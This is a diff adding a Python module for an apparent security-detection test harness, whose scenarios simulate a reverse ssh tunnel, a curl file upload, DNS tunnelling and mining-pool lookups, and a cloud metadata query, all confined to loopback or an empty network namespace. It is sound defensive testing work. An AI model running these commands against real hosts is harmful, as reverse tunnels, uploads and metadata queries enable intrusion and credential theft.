@@ -1,0 +1,123 @@
+"""Tunnels, uploads, DNS and cloud metadata: loopback only, or inside a network namespace we create."""
+
+from __future__ import annotations
+
+import secrets
+
+from vigil.simulate.registry import scenario
+from vigil.simulate.sandbox import Sandbox, ScenarioSkipped, closed_loopback_port
+from vigil.simulate.scenarios._util import have, python
+
+#: Runs inside the new network namespace: bring lo up, send one DNS query per name to 127.0.0.1:53
+#: (nothing listens there, so nothing answers and nothing is forwarded), then exit.
+DNS_SCRIPT = """\
+import fcntl, socket, struct, sys
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+fcntl.ioctl(s, 0x8914, struct.pack("16sH22x", b"lo", 0x1 | 0x8 | 0x40))
+s.settimeout(0.3)
+for i, name in enumerate(sys.argv[1:]):
+    qname = b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\\0"
+    s.sendto(struct.pack(">6H", i, 0x0100, 1, 0, 0, 0) + qname + struct.pack(">HH", 1, 1), ("127.0.0.1", 53))
+    try:
+        s.recv(512)
+    except OSError:
+        pass
+"""
+
+
+def dns_names() -> list[str]:
+    """A long, many-label, random-looking name, a mining-pool-like name and a tunnel-service name."""
+    labels = [
+        secrets.token_hex(26),
+        secrets.token_hex(16),
+        "a1",
+        "b2",
+        "c3",
+        "d4",
+        "e5",
+        "f6",
+        "vigil-sim",
+        "invalid",
+    ]
+    return [".".join(labels), "xmr.vigil-sim.invalid", "vigil-sim.ngrok-free.app"]
+
+
+@scenario(
+    "tunnels-exfil",
+    "ssh -N -R (a reverse tunnel) and curl -F file=@... (an upload) aimed at a closed loopback port; "
+    "both fail at once.",
+    ["SshReverseOrDynamicTunnel", "CommandLineFileUpload"],
+)
+def tunnels_exfil(sb: Sandbox) -> None:
+    port = closed_loopback_port()
+    if have("ssh"):
+        sb.run(
+            [
+                "ssh",
+                "-F",
+                "/dev/null",
+                "-N",
+                "-R",
+                "9999:127.0.0.1:22",
+                "-p",
+                str(port),
+                "-o",
+                "BatchMode=yes",
+                "-o",
+                "ConnectTimeout=2",
+                "-o",
+                "StrictHostKeyChecking=no",
+                "-o",
+                "UserKnownHostsFile=/dev/null",
+                "vigil-sim@127.0.0.1",
+            ]
+        )
+    else:
+        sb.skip_rules(["SshReverseOrDynamicTunnel"], "ssh is not installed")
+    upload = sb.write_file(sb.path("upload.txt"), "vigil-sim\n")
+    if have("curl"):
+        sb.run(["curl", "-s", "-m", "2", "-F", f"file=@{upload}", f"http://127.0.0.1:{port}/"])
+    else:
+        sb.skip_rules(["CommandLineFileUpload"], "curl is not installed")
+
+
+@scenario(
+    "dns",
+    "DNS queries for a 120-character, 10-label, random-looking name, a mining-pool-like name and a "
+    "tunnel-service name, sent to 127.0.0.1:53 inside a new, empty network namespace (root). "
+    "A DNS sensor sees them only if it watches that namespace.",
+    [
+        "DnsLongQueryName",
+        "DnsLongLabel",
+        "DnsManyLabels",
+        "DnsHighEntropyLabel",
+        "DnsMiningPool",
+        "DnsSuspiciousServiceDomain",
+    ],
+    needs_root=True,
+)
+def dns(sb: Sandbox) -> None:
+    if not have("unshare"):
+        raise ScenarioSkipped("unshare (util-linux) is not installed")
+    names = dns_names()
+    py = python()
+    inner = [py, "-c", DNS_SCRIPT, *names]
+    done = sb.run(["unshare", "--net", "--", *inner], children=[(py, " ".join(inner))])
+    if done.returncode != 0:
+        raise ScenarioSkipped(f"could not query inside a new network namespace: {done.stderr.strip()[-200:]}")
+    for name in names:
+        sb.expect_dns(py, name)
+
+
+@scenario(
+    "cloud-metadata",
+    "curl of the cloud metadata address 169.254.169.254 inside a new, empty network namespace (root): "
+    "there is no route, so it fails at once.",
+    ["CloudMetadataQuery"],
+    needs_root=True,
+)
+def cloud_metadata(sb: Sandbox) -> None:
+    if not have("unshare") or not have("curl"):
+        raise ScenarioSkipped("needs unshare and curl")
+    inner = ["curl", "-s", "-m", "2", "http://169.254.169.254/latest/meta-data/"]
+    sb.run(["unshare", "--net", "--", *inner], children=[("curl", " ".join(inner))])
